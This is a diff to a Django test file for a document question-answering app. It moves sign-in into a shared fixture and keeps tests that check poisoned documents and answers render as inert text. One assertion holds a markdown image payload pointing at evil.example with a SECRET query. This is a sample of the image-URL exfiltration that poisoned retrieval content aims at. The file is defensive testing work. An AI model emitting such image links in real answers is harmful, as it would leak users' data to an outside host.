@@ -20,6 +20,7 @@ from inference import events
 from inference.models import Citation, Question, QuestionStatus
 from ingest.actions import create_collection
 from ingest.models import Chunk
+from tests.conftest import ClientFor
 from tests.test_canary import ingest_text
 
 pytestmark = pytest.mark.django_db
@@ -71,24 +72,25 @@ def _no_live_markup(html: str, where: str) -> None:
     assert "&lt;img" in html, f"{where}: the hostile text should be shown, as text"
 
 
-def test_answers_questions_and_sources_render_as_text(people: Any, poisoned: Any) -> None:
-    client = Client()
-    client.force_login(people.alice)
+def test_answers_questions_and_sources_render_as_text(
+    people: Any, poisoned: Any, signed_in: ClientFor
+) -> None:
+    client = signed_in(people.alice)
     page = client.get(f"/questions/{poisoned['question'].pk}/").content.decode()
     _no_live_markup(page, "question page")
     assert "![leak](http://evil.example/markdown.png?q=SECRET)" in page  # shown, not rendered
 
 
-def test_passages_render_as_text(people: Any, poisoned: Any) -> None:
-    client = Client()
-    client.force_login(people.alice)
+def test_passages_render_as_text(people: Any, poisoned: Any, signed_in: ClientFor) -> None:
+    client = signed_in(people.alice)
     url = f"/documents/{poisoned['document'].pk}/passage?chunk={poisoned['chunk'].pk}"
     _no_live_markup(client.get(url).content.decode(), "passage page")
 
 
-def test_the_api_serves_answers_as_json_never_as_a_page(people: Any, poisoned: Any) -> None:
-    client = Client()
-    client.force_login(people.alice)
+def test_the_api_serves_answers_as_json_never_as_a_page(
+    people: Any, poisoned: Any, signed_in: ClientFor
+) -> None:
+    client = signed_in(people.alice)
     response = client.get(f"/api/v1/questions/{poisoned['question'].pk}")
     assert response["Content-Type"] == "application/json"
     assert response["X-Content-Type-Options"] == "nosniff"
@@ -133,9 +135,8 @@ def browser_page(live_server: Any, monkeypatch: Any) -> Iterator[tuple[Any, list
         browser.close()
 
 
-def _sign_in(page: Any, live_server: Any, user: Any) -> None:
-    client = Client()
-    client.force_login(user)
+def _sign_in(page: Any, live_server: Any, client: Client) -> None:
+    """Hand the browser the session of a signed-in test client."""
     cookie = client.cookies[settings.SESSION_COOKIE_NAME].value
     page.context.add_cookies(
         [{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": live_server.url}]
@@ -144,7 +145,7 @@ def _sign_in(page: Any, live_server: Any, user: Any) -> None:
 
 @pytest.mark.browser
 def test_a_poisoned_answer_loads_nothing_from_elsewhere_in_a_real_browser(
-    people: Any, live_db: Any, live_server: Any, browser_page: Any
+    people: Any, live_db: Any, live_server: Any, browser_page: Any, signed_in: ClientFor
 ) -> None:
     page, elsewhere = browser_page
     collection = create_collection(people.carol, "HR policies", people.hr)
@@ -164,7 +165,7 @@ def test_a_poisoned_answer_loads_nothing_from_elsewhere_in_a_real_browser(
     for piece in (HOSTILE[:40], HOSTILE[40:]):
         events.publish(live, "token", {"text": piece})
     events.publish(live, "done", {"answer": HOSTILE + " [1]", "grounded": True, "cited": [1]})
-    _sign_in(page, live_server, people.alice)
+    _sign_in(page, live_server, signed_in(people.alice))
 
     for question in (stored, live):
         page.goto(f"/questions/{question.pk}/")
